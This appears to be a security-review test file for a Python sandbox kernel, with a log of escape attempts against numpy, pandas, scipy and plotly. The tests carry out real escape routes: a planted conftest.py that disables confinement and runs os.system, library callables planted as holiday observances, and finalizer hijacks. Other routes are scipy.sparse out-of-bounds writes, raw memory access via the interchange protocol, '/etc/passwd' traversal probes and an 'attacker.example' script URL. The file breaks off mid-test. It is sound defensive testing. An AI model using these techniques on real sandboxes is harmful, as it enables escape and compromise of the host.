"""Fourth independent review at level `none`: attacks by an outsider told only the threat model.

Start 2026-11-26 13:31 UTC, end 14:11 UTC (by `date`). Each test performs the real attack in an Engine
with the data-science policy (or a child process running one, when the attack changes process-wide state
or needs the host to act after the cell) and asserts that it failed and nothing happened. Open
findings are strict xfails named FINDING N4-k; N4-4 (and the N4-6/N4-7 routes through it) was closed by
a2b9494 and N4-5/N4-12 by f6579b1 during the review, N4-8 by 4bb5c97 and N4-1/N4-2/N4-3 by 3db9a27 after
it: those are regression tests now.

Log of what was tried (one line per attempt class) and the result:
  pandas' holiday-calendar registry: a cell subclass of AbstractHolidayCalendar is registered by its
    metaclass under its name, replacing pandas' USFederalHolidayCalendar; its Holiday(observance=
    partial(np.savetxt, outside...)) runs when the host calls get_calendar(name).holidays()
                                                                       file written by the host  FINDING N4-1 (fixed)
  attribute writes on instances granted libraries keep at module level, shared by the process:
    scipy.stats.norm.pdf = partial(...), pandas' USMemorialDay.observance = partial(...),
    USFederalHolidayCalendar.rules.append(Holiday(observance=partial(...))) (a class-level list),
    np.ma.sqrt.f = partial(...) (numpy.ma's operation objects), plotly's ValidatorCache instances
    (validate_coerce = partial(...)); the host then calls norm.pdf / CustomBusinessDay(calendar=...) /
    np.ma.sqrt / go.Scatter                                            file written by the host  FINDING N4-2 (fixed)
    (the kernel's output filter builds its plotly schema lazily from the same validator instances,
    reading .values/.flags/.extras/.val/.data_class: a cell could widen what the browser wall accepted;
    validators are read-only since: test_attacks_library_objects.py)
  process-wide data on such instances: scipy.stats.norm.badvalue, plotly.express.defaults,
    np.finfo(np.float64).eps (finfo's instance cache), plotly.io.defaults (URLs), plotly.io.json.config,
    scipy.special.seterr(all='raise') (the host's special functions raise afterwards)
                                                                       changed in the host       FINDING N4-3 (lesser, fixed)
  np.test()/scipy.test()/pd.test() (handed out) run pytest in the kernel's process on the cell's files:
    pytest's assertion-rewriting loader compiled and executed the cell's conftest.py (the audit hook's
    import exception checked the working directory for importlib's own loader only): raw Python, sys,
    frames, confine._confinement replaced, os.system, writes outside; confirmed through a real kernel
                                                                process run, file written FINDING N4-4 (fixed)
  the same runners without a conftest: pytest prepends the working directory to sys.path and leaves it
    there; the host's next import of a name the cell wrote a module for runs it outside any cell
                                                             process run, file written  FINDING N4-6 (route closed)
  the same with an __init__.py in the working directory: the PARENT goes on sys.path, and the
    confinement reads every sys.path directory like the installation (confine._import_roots), so
    np.loadtxt('<parent>/secret.txt') reads it                     secret read               FINDING N4-7 (route closed)
  library finalizers calling the cell's object after the cell: scipy.io.netcdf_file(CellFile(), 'w')
    (__del__ = close: flush, then fp.close()), and the io.TextIOWrapper pandas.read_csv(iterator=True)
    puts around a binary file object (its C finalizer closes the buffer); the cell's methods are library
    callables (close = partial(np.savetxt, outside...)), the reader is left in a reference cycle that the
    host's garbage collector frees after the cell                      file written by the host  FINDING N4-8 (fixed)
    (np.load's NpzFile over a cell file object does not close a file it did not open: held)
  scipy.sparse arrays built from index arrays the cell chose: csr_array((data, indices, indptr)) checks
    shapes, not index bounds; toarray() writes data[k] at column indices[k]: an out-of-bounds write of a
    chosen double at a chosen offset from a heap buffer                 the process segfaults     FINDING N4-9 (fixed)
    A @ x with such indices (or a.indices[0] = 5 after construction) reads past x: heap words and
    pointers (6.9e-310) come back as the result                         memory read               FINDING N4-9 (fixed)
    pd.Categorical.from_codes(codes, categories, validate=False): np.asarray() takes codes past the
    categories in Cython without bounds checks: heap words come back (object categories: pointers read
    from past the buffer become objects)                                memory read               FINDING N4-9 (fixed)
    scipy.interpolate.BSpline.construct_fast(t, c, k) (public, unchecked) with c shorter than t - k - 1:
    evaluation reads past c (denormals from the heap come back)         memory read               FINDING N4-9 (fixed)
    pd.MultiIndex(..., verify_integrity=False) with codes past the levels: checked where used   held
  the dataframe interchange protocol: pd.api.interchange.from_dataframe(cell object) asks the cell's
    column for get_buffers() and lays an array over buffer.ptr with ctypes (buffer_to_ndarray): the cell
    names any address; id(x) + 8 reads back id(type(x))                 any memory read           FINDING N4-10
    a float column with a byte-mask validity buffer: set_nulls writes NaN through the raw view
    (data[null_pos] = None) before the copy: the cell's array at an address it read back (id(a) + 16)
    holds NaN afterwards                                                any memory written        FINDING N4-10
    (plotly.express with the same object: narwhals asks for a _df property first; not pursued)
  hash() of a tuple nested 10**6 deep (built in a loop): CPython's tuplehash recurses in C without a
    recursion check; also {t}, d[t], t in a set                          the process segfaults     FINDING N4-11 (fixed)
    (isinstance(x, nested), except nested, ==, repr: recursion-checked)  RecursionError/TypeError  held
  a numpy object array that holds itself (a[0] = a), then -a, abs(a), a + a: the object loop calls the
    same ufunc on the element in C, endlessly                            the process segfaults     FINDING N4-11 (fixed)
    (a == a, np.array_equal: RecursionError; str, tolist, sort, sum, copy: fine)          held
  cell source nested deeper than the runtime's recursion ('x = ' + '-' * 2900 + '1', 'not ' * 2900,
    '1' + ' + 1' * 100000, 'a.' * 5000)                              SandboxInternalError  FINDING N4-12 (lesser, fixed)
    (the same text through exec() or pandas eval: RecursionError, a clean error)          held
  %time with nothing after it ('%time', '%time\\nx = 1', 'x = %time') SandboxInternalError  FINDING N4-5 (lesser, fixed)
  %%writefile ../x, an absolute path, -a ../../x                         refused (FileDenied)      held
  %%timeit / %time with a refused import in the statement                refused (ImportDenied)    held
  eval()/exec(): bytes subclasses, dict subclasses as globals, '__builtins__' bound by the text, a
    function's __globals__, code objects                                 refused / own dicts        held
  help('os'), help('pandas.compat'), vars(module), dir()/vars() with two arguments     refused     held
  np.info('getcwd', toplevel='os') imports any module by name and prints its docs (no reference
    returned)                                                            information only          held
  pandas Styler.from_custom_template('.', a template the cell wrote)     compile refused           held
  pandas eval/query: dunders (__globals__, __base__, __subclasses__, __code__, module __dict__), gate
    names, __builtins__, str * 1e9, '%999999999d' % 1, 'in' over iter(range(10**12))  refused       held
  csv.register_dialect('excel', delimiter=';'), csv.field_size_limit(5): per engine         held
  np.set_printoptions(formatter={'float': partial(...)}), then the host prints an array  per engine  held
  pio.renderers.default = 'browser'                                      refused (policy)          held
  scipy.LowLevelCallable.from_cython (capsules with a chosen signature)  refused (policy)          held
  dateutil.tz.gettz / tzfile of an absolute path outside, zoneinfo keys with '..'  refused         held
  zoneinfo.ZoneInfo('UTC') attribute write, library class attribute write  refused                 held
  numpy getfield/view with object dtype over floats, coo_array indices past the shape, __reduce_ex__
    in an ndarray subclass, np.lib.stride_tricks.DummyArray              refused                   held
  nested callable iterators iter(partial(next, it), None) 300,000 deep  RecursionError            held
  size gates: zfill/ljust/bytes/bytearray/format of 3e9, str(10**1000000)  SizeDenied           held
  str.expandtabs: the gate estimates the result as tabsize characters, not tabs x tabsize:
    ('\\t' * 100).expandtabs(300_000_000) (30 GB) passes under the 2048 MB policy and C allocates it
    (MemoryError under an 8 GB RLIMIT_AS; at level none nothing bounds it; 10 tabs: 3 GB allocated,
    then the sampler's MemoryLimitExceeded)                              allocation not refused    FINDING N4-13 (fixed)
    re.sub('', 'x' * 10**6, 'a' * 10**4): 10 GB joined in C at once (the same replace() is refused);
    ('ab ' * 6e7).split() / splitlines(): one str per part in C, past a 2 GB RLIMIT_AS with a 512 MB
    policy (list(s) of the same size is refused); unicodedata.normalize('NFKD', '\\ufdfa' * 3e7): 18
    characters per character                                             allocation not refused    FINDING N4-13 (fixed)
  np.r_ / np.mgrid / np.ma.masked attribute writes                       AttributeError            held
"""
from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap

import pytest

from childcell import REPO, host_probe, run_cell_in_child, savetxt_writer

PAYLOAD = "echo PWNED-BY-REVIEW4"


def _savetxt_partial(path) -> str:
    return savetxt_writer(path, PAYLOAD)


# --- N4-1: pandas' holiday-calendar registry ---------------------------------------------------------------
# pandas.tseries.holiday keeps a module-level dict, holiday_calendars, that HolidayCalendarMetaClass fills
# with every subclass of AbstractHolidayCalendar when the class is made, by class name. A cell's class named
# USFederalHolidayCalendar replaces pandas' own. Its rules are Holiday objects whose observance= (a plain
# attribute the library calls with each date) is a library callable: not cell code, so no idle tick stops it,
# and outside the cell no confinement holds. Whoever calls get_calendar('USFederalHolidayCalendar').holidays()
# after the cell (the kernel's host code, another engine's session) runs it.

HOLIDAY_CELL = """
import functools, numpy as np
from pandas.tseries.holiday import AbstractHolidayCalendar, Holiday
class USFederalHolidayCalendar(AbstractHolidayCalendar):
    rules = [Holiday('planted', month=1, day=1, observance={writer})]
"""

HOST_USES_THE_CALENDAR = """
def probe_host(report):
    import pandas as pd
    from pandas.tseries.holiday import get_calendar
    calendar = get_calendar('USFederalHolidayCalendar')
    report['calendar_module'] = type(calendar).__module__
    try:
        calendar.holidays(pd.Timestamp('2020-01-01'), pd.Timestamp('2020-12-31'))
    except Exception as exc:
        report['host_error'] = type(exc).__name__
"""


def test_holiday_calendar_registry_does_not_carry_a_cells_calendar_to_the_host(outside):
    target = outside / "holiday-observance.sh"
    result = run_cell_in_child(HOLIDAY_CELL.format(writer=_savetxt_partial(target)),
                               report=("status", "ename"), probe=HOST_USES_THE_CALENDAR)
    assert not target.exists(), f"the host ran the cell's observance unconfined: {json.dumps(result)}"
    assert result.get("calendar_module") == "pandas.tseries.holiday", result


# --- N4-2: module-level instances of granted libraries are writable ------------------------------------------
# The write gate makes modules, library classes and dateutil's instances read-only, but not the *instances*
# numpy, pandas, scipy and plotly keep at module level and share with the whole process: scipy.stats' ~100
# distribution objects, pandas' Holiday rules (USMemorialDay ...), and the class-level rules list of
# USFederalHolidayCalendar (a list: item writes and append are not attribute writes). A library callable
# stored there as an attribute shadows the method, or is the callable the library calls (observance), and
# runs whenever the host uses the library after the cell.

SINGLETON_ROUTES = {
    "scipy_stats_norm_pdf": (
        "import functools, numpy as np, scipy.stats as st\nst.norm.pdf = {writer}\n",
        "import scipy.stats as st\nst.norm.pdf(0.5)"),
    "pandas_holiday_instance_observance": (
        "import functools, numpy as np\nimport pandas.tseries.holiday as h\nh.USMemorialDay.observance = {writer}\n",
        "import pandas as pd\nfrom pandas.tseries.holiday import USFederalHolidayCalendar\n"
        "pd.offsets.CustomBusinessDay(calendar=USFederalHolidayCalendar())"),
    "pandas_holiday_class_rules_list": (
        "import functools, numpy as np\nfrom pandas.tseries.holiday import USFederalHolidayCalendar, Holiday\n"
        "USFederalHolidayCalendar.rules.append(Holiday('planted', month=1, day=1, observance={writer}))\n",
        "import pandas as pd\nfrom pandas.tseries.holiday import USFederalHolidayCalendar\n"
        "pd.offsets.CustomBusinessDay(calendar=USFederalHolidayCalendar())"),
    "plotly_validator_cache": (
        "import functools, numpy as np\nfrom plotly.validator_cache import ValidatorCache\n"
        "ValidatorCache.get_validator('scatter', 'x').validate_coerce = {writer7}\n",
        "import plotly.graph_objects as go\ngo.Figure(go.Scatter(x=[1, 2], y=[3, 4]))"),
    "numpy_ma_operation_ufunc": (
        "import functools, numpy as np\nnp.ma.sqrt.f = {writer}\n",
        "import numpy as np\nnp.ma.sqrt(np.ma.array([4.0]))"),
}

@pytest.mark.parametrize("route", sorted(SINGLETON_ROUTES))
def test_module_level_library_instances_do_not_carry_a_library_callable_to_the_host(outside, route):
    cell, use = SINGLETON_ROUTES[route]
    target = outside / f"singleton-{route}.sh"
    writer = _savetxt_partial(target)
    writer7 = writer[:-1] + ", '')"   # one more positional: validate_coerce(v) lands in `comments`
    result = run_cell_in_child(cell.format(writer=writer, writer7=writer7), report=("status", "ename"),
                               probe=host_probe(use))
    assert "crashed" not in result, result
    assert not target.exists(), f"the host ran the cell's planted callable unconfined: {json.dumps(result)}"


# --- N4-3 (lesser): process-wide data on the same singletons --------------------------------------------------

SINGLETON_DATA = {
    "scipy_stats_badvalue": ("import scipy.stats as st\nst.norm.badvalue = 42.0\n",
                             "import scipy.stats as st\n    report['changed'] = st.norm.badvalue == 42.0"),
    "numpy_finfo_cache": ("import numpy as np\nnp.finfo(np.float64).eps = 0.5\n",
                          "import numpy as np\n    report['changed'] = bool(np.finfo(np.float64).eps == 0.5)"),
    "plotly_io_defaults_urls": ("import plotly.io as pio\npio.defaults.plotlyjs = 'https://attacker.example/p.js'\n",
                                "import plotly.io as pio\n    report['changed'] = pio.defaults.plotlyjs is not None"),
    "plotly_json_config": ("import plotly.io as pio\npio.json.config.default_engine = 'json'\n",
                           "import plotly.io as pio\n    report['changed'] = pio.json.config.default_engine == 'json'"),
    "scipy_special_error_state": ("import scipy.special as sc\nsc.seterr(all='raise')\n",
                                  "import scipy.special as sc\n"
                                  "    report['changed'] = sc.geterr()['singular'] == 'raise'"),
    "plotly_express_defaults": ("import plotly.express as px\npx.defaults.width = 5\n",
                                "import plotly.express as px\n    report['changed'] = px.defaults.width == 5"),
}

HOST_READS = """
def probe_host(report):
    {use}
"""


N4_3_OPEN = pytest.mark.xfail(strict=True, reason="FINDING N4-3 (lesser): a cell changes process-wide data on "
                              "module-level instances of granted libraries (scipy.stats.norm.badvalue, "
                              "plotly.express.defaults)")
KEPT_PER_ENGINE = ("scipy_special_error_state",)   # guards.LIBRARY_STATE since 9cf239f


@pytest.mark.parametrize("route", sorted(SINGLETON_DATA))
def test_module_level_library_instances_keep_their_data_after_the_cell(route):
    cell, use = SINGLETON_DATA[route]
    result = run_cell_in_child(cell, report=("status", "ename"), probe=HOST_READS.replace("{use}", use))
    assert "crashed" not in result, result
    assert result.get("changed") is False, result


def test_plotly_renderers_default_is_not_writable():
    probe = "def probe_host(report):\n    import plotly.io as pio\n    report['default'] = pio.renderers.default\n"
    before = run_cell_in_child("x = 1\n", report=("status",), probe=probe)
    after = run_cell_in_child("import plotly.io as pio\npio.renderers.default = 'browser'\n",
                              report=("status", "ename"), probe=probe)
    assert after["ename"] == "AttributeDenied", after
    assert after["default"] == before["default"], (before, after)


# --- N4-4: np.test() runs pytest in the kernel process, which executes the cell's conftest.py unrewritten ----
# numpy's and scipy's `test` attributes (PytestTester instances) are handed out; calling one runs pytest.main
# in the kernel's process with the cell's extra_argv and test paths. pytest imports conftest.py files (and
# test modules) through its assertion-rewriting loader: it reads the file, compiles it itself and executes it.
# The audit hook lets that compile through (an import, only installed code on the stack); the working-directory
# check applies to importlib's own loader only. The cell's file then runs as plain Python: `import sys`,
# frames, the sandbox's own modules; replacing sandbox_kernel.confine._confinement switches the confinement
# off for the whole process, and os.system and writes outside follow. At level none the kernel's cwd is the
# working directory, so relative paths name the cell's files (the child below runs there, as the kernel does).

PYTEST_CELL = """
import numpy as np, scipy, pandas as pd
open('pytest.ini', 'w').write('[pytest]\\n')
open('conftest.py', 'w').write({conftest!r})
open('test_planted.py', 'w').write('def test_a():\\n    pass\\n')
ARGS = ['-c', 'pytest.ini', '--rootdir', '.', '-p', 'no:cacheprovider', '-p', 'no:faulthandler', '-s']
{runner}
"""

PYTEST_RUNNERS = {
    "numpy_test": "np.test(extra_argv=ARGS, tests=['test_planted.py'])",
    "scipy_test": "scipy.test(extra_argv=ARGS, tests=['test_planted.py'])",
    "pandas_test": "pd.test(extra_args=ARGS + ['test_planted.py'])",
}

CONFTEST = """
import sys
sys.modules['sandbox_kernel.confine']._confinement = lambda: None
import os
open({target!r}, 'w').write('frame: ' + type(sys._getframe()).__name__)
os.system('echo PROCESS > ' + {marker!r})
"""

KERNEL_CWD_CHILD = textwrap.dedent("""
    import json, os, sys
    from sandbox_kernel.engine import Engine
    from sandbox_kernel.policy import PRESETS
    eng = Engine(PRESETS["data-science"], workdir=os.getcwd())
    done = eng.run_cell(sys.argv[1], emit=lambda e: None)
    report = {"status": done["status"], "ename": (done["error"] or {}).get("ename")}
    if len(sys.argv) > 2:   # the host's own code after the cell
        try:
            exec(sys.argv[2])
        except Exception as exc:
            report["host_error"] = type(exc).__name__
    print(json.dumps(report))
""")


def _run_in_a_kernel_like_child(source: str, workdir, host: str | None = None, python_flags=()) -> dict:
    env = dict(os.environ, PYTHONPATH=REPO)
    out = subprocess.run([sys.executable, *python_flags, "-c", KERNEL_CWD_CHILD, source] + ([host] if host else []),
                         capture_output=True, text=True,
                         timeout=180, cwd=str(workdir), env=env)
    lines = out.stdout.strip().splitlines()
    return json.loads(lines[-1]) if lines else {"crashed": out.returncode, "stderr": out.stderr[-500:]}


# FINDING N4-4, fixed in a2b9494 (the test runners are refused by module and object rule).
@pytest.mark.parametrize("runner", sorted(PYTEST_RUNNERS))
def test_library_test_runners_do_not_execute_a_cells_conftest(tmp_path, outside, runner):
    workdir = tmp_path / "work"
    workdir.mkdir()
    target, marker = outside / "conftest-wrote.txt", outside / "conftest-process.txt"
    conftest = CONFTEST.format(target=str(target), marker=str(marker))
    result = _run_in_a_kernel_like_child(PYTEST_CELL.format(conftest=conftest, runner=PYTEST_RUNNERS[runner]),
                                         workdir)
    assert "crashed" not in result, result
    assert not marker.exists(), f"a process ran: {result}"
    assert not target.exists(), f"the cell's conftest wrote outside: {result}"


# --- N4-5 (lesser): %time with no statement is an internal error ----------------------------------------------
# IPython times nothing and goes on; the engine reports "the sandbox failed while it finished this cell".

# FINDING N4-5, fixed by f6579b1 (with N4-12: the same failure in the engine's finishing).
@pytest.mark.parametrize("cell", ["%time", "%time\nx = 1", "x = %time"])
def test_time_magic_with_no_statement_is_not_an_internal_error(run, cell):
    r = run(cell)
    assert r.error_name != "SandboxInternalError", r


# --- N4-6: pytest leaves the working directory on sys.path; the host's next import runs the cell's file --------
# Even where pytest's own compile of the cell's files is refused, pytest.main (import mode 'prepend') inserts
# the test file's directory, the working directory, at sys.path[0] and never takes it out. Every later import
# of a name not yet imported (the kernel's lazy imports: completion, help, a library's optional module) then
# finds the cell's file first, and imports it outside any cell: no confinement at all.

PYTEST_NO_CONFTEST_CELL = """
import numpy as np
open('pytest.ini', 'w').write('[pytest]\\n')
open('test_planted.py', 'w').write('def test_a():\\n    pass\\n')
open('zz_planted_module.py', 'w').write({module!r})
try:
    np.test(extra_argv=['-c', 'pytest.ini', '--rootdir', '.', '-p', 'no:cacheprovider', '-p', 'no:faulthandler',
                        '-p', 'no:logging', '-s'], tests=['test_planted.py'])
except Exception as exc:
    runner = type(exc).__name__
"""

PLANTED_MODULE = """
import os
open({target!r}, 'w').write('imported by the host')
os.system('echo PROCESS > ' + {marker!r})
"""


# FINDING N4-6, route closed by a2b9494 (np.test refused). The child runs with -P like the kernel: without it
# '' (the cwd, the working directory) is sys.path[0] and the host's import finds the cell's module anyway.
def test_library_test_runner_leaves_sys_path_alone(tmp_path, outside):
    workdir = tmp_path / "work"
    workdir.mkdir()
    target, marker = outside / "planted-import.txt", outside / "planted-process.txt"
    module = PLANTED_MODULE.format(target=str(target), marker=str(marker))
    host = "import sys\nreport['workdir_on_path'] = os.getcwd() in sys.path\nimport zz_planted_module\n"
    result = _run_in_a_kernel_like_child(PYTEST_NO_CONFTEST_CELL.format(module=module), workdir, host=host,
                                         python_flags=["-P"])
    assert "crashed" not in result, result
    assert not marker.exists(), f"the host's import ran the cell's module: {result}"
    assert not target.exists(), f"the host's import ran the cell's module: {result}"
    assert result.get("workdir_on_path") is False, result


# --- N4-7: pytest's sys.path insert makes the parent directory readable -------------------------------------
# The confinement reads every sys.path directory like the installation (confine._import_roots, recomputed
# whenever sys.path changes). With an __init__.py in the working directory, pytest's 'prepend' import mode
# inserts the package root, the working directory's parent, at sys.path[0]: from then on a library reads any
# file under the parent by absolute path (the path is printed by pytest itself: 'rootdir: ...'). The kernel
# runs with -P, like the child below.

PARENT_READ_CELL = """
import numpy as np
def read_secret():
    try:
        return str(np.loadtxt({secret!r}, dtype=str))
    except Exception as exc:
        return type(exc).__name__
before = read_secret()
open('pytest.ini', 'w').write('[pytest]\\n')
open('__init__.py', 'w').write('')
open('test_planted.py', 'w').write('def test_a():\\n    pass\\n')
try:
    np.test(extra_argv=['-c', 'pytest.ini', '--rootdir', '.', '-p', 'no:cacheprovider', '-p', 'no:faulthandler',
                        '-p', 'no:logging', '-s'], tests=['test_planted.py'])
except Exception as exc:
    runner = type(exc).__name__
after = read_secret()
"""


# FINDING N4-7, route closed by a2b9494 (np.test refused); the confinement still trusts whatever sys.path
# holds at the time (confine._import_roots), so any other way to extend sys.path reopens it.
def test_library_test_runner_does_not_make_the_parent_directory_readable(tmp_path):
    workdir = tmp_path / "work"
    workdir.mkdir()
    secret = "PARENT-SECRET-" + tmp_path.name
    (tmp_path / "secret.txt").write_text(secret + "\n")
    host = "report['before'] = eng.namespace.get('before')\nreport['after'] = eng.namespace.get('after')\n"
    result = _run_in_a_kernel_like_child(PARENT_READ_CELL.format(secret=str(tmp_path / "secret.txt")), workdir,
                                         host=host, python_flags=["-P"])
    assert result.get("before") in ("FileNotFoundError", "FileDenied"), result
    assert secret not in json.dumps(result), f"the cell read a secret in the working directory's parent: {result}"


# --- N4-4 through a real kernel at level none (its cwd is the working directory, as by default) ---------------

# FINDING N4-4 through a real kernel (confirmed at 8cd38d5: the conftest printed a frame and ran a process);
# fixed in a2b9494.
def test_kernel_np_test_does_not_execute_a_cells_conftest(tmp_path, outside):
    from kernel_helpers import start_client

    workdir = tmp_path / "kernel-work"
    workdir.mkdir()
    target, marker = outside / "kernel-conftest-wrote.txt", outside / "kernel-conftest-process.txt"
    conftest = CONFTEST.format(target=str(target), marker=str(marker))
    client = start_client(cwd=str(workdir), isolation="none")
    try:
        reply = client.run(PYTEST_CELL.format(conftest=conftest, runner=PYTEST_RUNNERS["numpy_test"]), timeout=120)
        after = client.run("print(6 * 7)", timeout=30)["output"]
    finally:
        client.shutdown()
    assert after == "42\n", (reply, after)
    assert not marker.exists(), f"the kernel ran a process for the cell: {reply.get('status')}"
    assert not target.exists(), f"the kernel wrote outside for the cell: {reply.get('status')}"


# --- N4-8: a library finalizer calls the cell's object's methods after the cell ------------------------------
# scipy.io.netcdf_file takes any object with .seek as its file, and its __del__ (= close) reads fp.closed,
# flushes (fp.seek, fp.write ...) and calls fp.close(). The cell's class binds library callables to those
# plain method names: no cell code runs, so the idle tick refuses nothing. Left in a reference cycle, the
# netcdf_file is freed by the host's garbage collector after the cell (any allocation may trigger it), where
# nothing is confined. Objects *of* a class with a library finalizer take no attributes (gates._library_finalizer);
# the objects such a finalizer *holds* are the cell's.

TEXTIO_FINALIZER_CELL = """
import functools, operator, numpy as np, pandas as pd
class CellBinaryFile:
    mode = 'rb'
    closed = False
    close = {writer7}
    readable = functools.partial(bool, 1)
    writable = functools.partial(bool, 0)
    seekable = functools.partial(bool, 0)
    read = functools.partial(operator.mul, b'a\\n')
    read1 = functools.partial(operator.mul, b'a\\n')
    flush = functools.partial(int)
cycle = [pd.read_csv(CellBinaryFile(), iterator=True, engine='python')]
cycle.append(cycle)
del cycle
"""

NETCDF_FINALIZER_CELL = """
import functools, numpy as np, scipy.io
class CellFile:
    closed = False
    close = {writer7}
    seek = functools.partial(int)
    tell = functools.partial(int)
    write = functools.partial(len)
    flush = functools.partial(int)
cycle = [scipy.io.netcdf_file(CellFile(), 'w')]
cycle.append(cycle)
del cycle
"""

# Closed at the sink (confine.py, "the host's time"): every garbage collection outside a cell's own
# confinement, on any thread, and the host dropping a namespace (engine reset, restart, shutdown) run
# confined to the last cell's files. The host's ways of freeing a cell's object are the variants.
HOST_FREES = {
    "collects": "def probe_host(report):\n    import gc\n    gc.collect()\n",
    "collects_on_a_kernel_thread": (
        "def probe_host(report):\n    import gc, threading\n"
        "    t = threading.Thread(target=gc.collect)\n    t.start()\n    t.join()\n"),
    # no cycle: the last reference is the namespace's, dropped by the host
    "resets_the_namespace": "def probe_host(report):\n    eng.reset()\n",
}


FINALIZER_ROUTES = {"scipy_netcdf_file": NETCDF_FINALIZER_CELL, "pandas_read_csv_text_wrapper": TEXTIO_FINALIZER_CELL}


@pytest.mark.parametrize("host", sorted(HOST_FREES))
@pytest.mark.parametrize("route", sorted(FINALIZER_ROUTES))
def test_a_library_finalizer_does_not_call_the_cells_object_after_the_cell(outside, route, host):
    target = outside / f"finalizer-{route}-{host}.sh"
    writer7 = _savetxt_partial(target)[:-1] + ", '')"
    cell = FINALIZER_ROUTES[route].format(writer7=writer7)
    if host == "resets_the_namespace":
        cell = cell.replace("del cycle\n", "kept = cycle.pop(0)\ndel cycle\n")
    result = run_cell_in_child(cell, report=("status", "ename"), probe=HOST_FREES[host])
    assert "crashed" not in result, result
    assert result["status"] == "ok", result
    assert not target.exists(), f"the host's garbage collector ran the cell's close() unconfined: {result}"


# --- held: pandas' expression language refuses what the cell's own code is refused -------------------------------

PANDAS_EVAL_REFUSALS = {
    "function_globals": ("def g():\n    pass\nv = pd.eval('f.__globals__', local_dict={'f': g})", "AttributeDenied"),
    "class_base": ("v = pd.eval('x.__class__.__base__', local_dict={'x': 1})", "AttributeDenied"),
    "subclasses": ("v = pd.eval('o.__subclasses__()', local_dict={'o': object})", "AttributeDenied"),
    "module_dict": ("v = pd.eval('m.__dict__', local_dict={'m': np})", "AttributeDenied"),
    "gate_name": ("v = pd.eval('__st_getattr__')", "NameDenied"),
    "str_repeat": ("v = pd.eval('s * 1000000000', local_dict={'s': 'abc'})", "SizeDenied"),
    "percent_width": ("v = pd.eval('s % 1', local_dict={'s': '%999999999d'})", "SizeDenied"),
    "iterator_membership": ("v = pd.eval('5 in r', local_dict={'r': iter(range(10**12))})", "TickLimitExceeded"),
}


@pytest.mark.parametrize("route", sorted(PANDAS_EVAL_REFUSALS))
def test_pandas_eval_refuses_what_a_cell_is_refused(sandbox, route):
    cell, refusal = PANDAS_EVAL_REFUSALS[route]
    r = sandbox.run("import pandas as pd, numpy as np\n" + cell, ticks=10**6)
    assert r.error_name == refusal, r
    assert "v" not in sandbox.ns


# --- held: the other attempts, each must be refused (or do nothing) ------------------------------------------

HELD_IN_THE_ENGINE = {
    "writefile_parent": ("%%writefile ../escaped.txt\nhello\n", "FileDenied"),
    "writefile_append_climb": ("%%writefile -a ../../escaped.txt\nhello\n", "FileDenied"),
    "timeit_refused_import": ("%%timeit -n 1 -r 1 import os\npass\n", "ImportDenied"),
    "exec_dict_subclass": ("class D(dict):\n    pass\nexec('x = 1', D())\n", "TypeError"),
    "exec_binds_builtins": ("exec('__builtins__ = 5', {})\n", "NameDenied"),
    "exec_function_globals": ("def f():\n    pass\nexec('x = 1', f.__globals__)\n", "AttributeDenied"),
    "vars_of_a_module": ("import pandas as pd\nv = vars(pd)\n", "BuiltinDenied"),
    "lowlevelcallable": ("import scipy\nv = scipy.LowLevelCallable\n", "AttributeDenied"),
    "styler_template_from_the_workdir": (
        "import pandas as pd\nopen('t.tpl', 'w').write(\"{% extends 'html_table.tpl' %}{% block table %}"
        "{{ ''.__class__.__mro__ }}{% endblock %}\")\ndf = pd.DataFrame({'a': [1]})\n"
        "v = type(df.style).from_custom_template('.', 't.tpl')(df).to_html()\n", "OperationDenied"),
    "renderers_default": ("import plotly.io as pio\npio.renderers.default = 'browser'\n", "AttributeDenied"),
    "library_class_write": ("import scipy.stats as st\nst.qmc.Sobol.planted = 1\n", "AttributeDenied"),
    # (the runtime's print is a library callable: refused before ZoneInfo's own AttributeError)
    "zoneinfo_cached_instance_write": ("import zoneinfo\nzoneinfo.ZoneInfo('UTC').utcoffset = print\n",
                                       "AttributeDenied"),
    "tzfile_outside": ("import dateutil.tz as tz\nv = tz.tzfile('/etc/passwd')\n", "FileDenied"),
    "zoneinfo_key_climbs": ("import zoneinfo\nv = zoneinfo.ZoneInfo('../../../../etc/passwd')\n", "ValueError"),
    "help_by_name_of_a_denied_module": ("help('os')\nv = None\n", None),
    "object_field_over_floats": ("import numpy as np\nv = np.zeros(1).getfield(np.dtype('O'), 0)\n", "TypeError"),
    "object_view_of_floats": ("import numpy as np\nv = np.zeros(1).view('O')\n", "TypeError"),
    "coo_index_past_the_shape": ("import numpy as np, scipy.sparse as sp\n"
                                 "v = sp.coo_array((np.array([1.0]), (np.array([0]), np.array([10**6]))), "
                                 "shape=(1, 2))\n", "ValueError"),
    "reduce_ex_in_a_class_body": ("import numpy as np\nclass A(np.ndarray):\n    def __reduce_ex__(self, p):\n"
                                  "        return (np.ndarray, ((1,), 'O', bytes(8)))\n", "NameDenied"),
    "dummy_array": ("import numpy as np\nv = np.lib.stride_tricks.DummyArray\n", "AttributeError"),
}


@pytest.mark.parametrize("route", sorted(HELD_IN_THE_ENGINE))
def test_other_attempts_are_refused(sandbox, tmp_path, route):
    cell, refusal = HELD_IN_THE_ENGINE[route]
    r = sandbox.run(cell)
    assert r.error_name == refusal, r
    assert not (tmp_path / "escaped.txt").exists() and not (tmp_path.parent / "escaped.txt").exists()
    if refusal is None:
        assert "No documentation found" in r.stdout, r


def test_np_info_of_a_denied_module_hands_nothing_back(sandbox):
    r = sandbox.run("import numpy as np\nv = np.info('getcwd', toplevel='os')\n")
    assert r.ok, r
    assert sandbox.ns["v"] is None


def test_print_options_do_not_reach_the_host(outside):
    target = outside / "printoptions.sh"
    cell = ("import functools, numpy as np\nnp.set_printoptions(formatter={{'float': {writer}}})\n"
            .format(writer=_savetxt_partial(target)))
    probe = "def probe_host(report):\n    import numpy as np\n    report['text'] = repr(np.array([1.5]))\n"
    result = run_cell_in_child(cell, report=("status",), probe=probe)
    assert result.get("text") == "array([1.5])", result
    assert not target.exists()


# --- N4-9: scipy.sparse trusts the cell's index arrays: an out-of-bounds write in C ------------------------------
# csr_array((data, indices, indptr), shape=...) runs check_format(full_check=False): lengths and dtypes, not
# whether each column index is below the number of columns. toarray() (csr_todense in C++) then writes
# data[k] at row offset + indices[k]: a chosen value at a chosen distance from a heap buffer, before or
# after it. A memory-write primitive in the kernel's process; here it only crashes it.

SPARSE_OOB_CELL = """
import numpy as np, scipy.sparse as sp
a = sp.csr_array((np.array([1.0]), np.array([100000000]), np.array([0, 1])), shape=(1, 2))
dense = a.toarray()
"""


def test_sparse_arrays_with_out_of_range_indices_do_not_write_out_of_bounds():
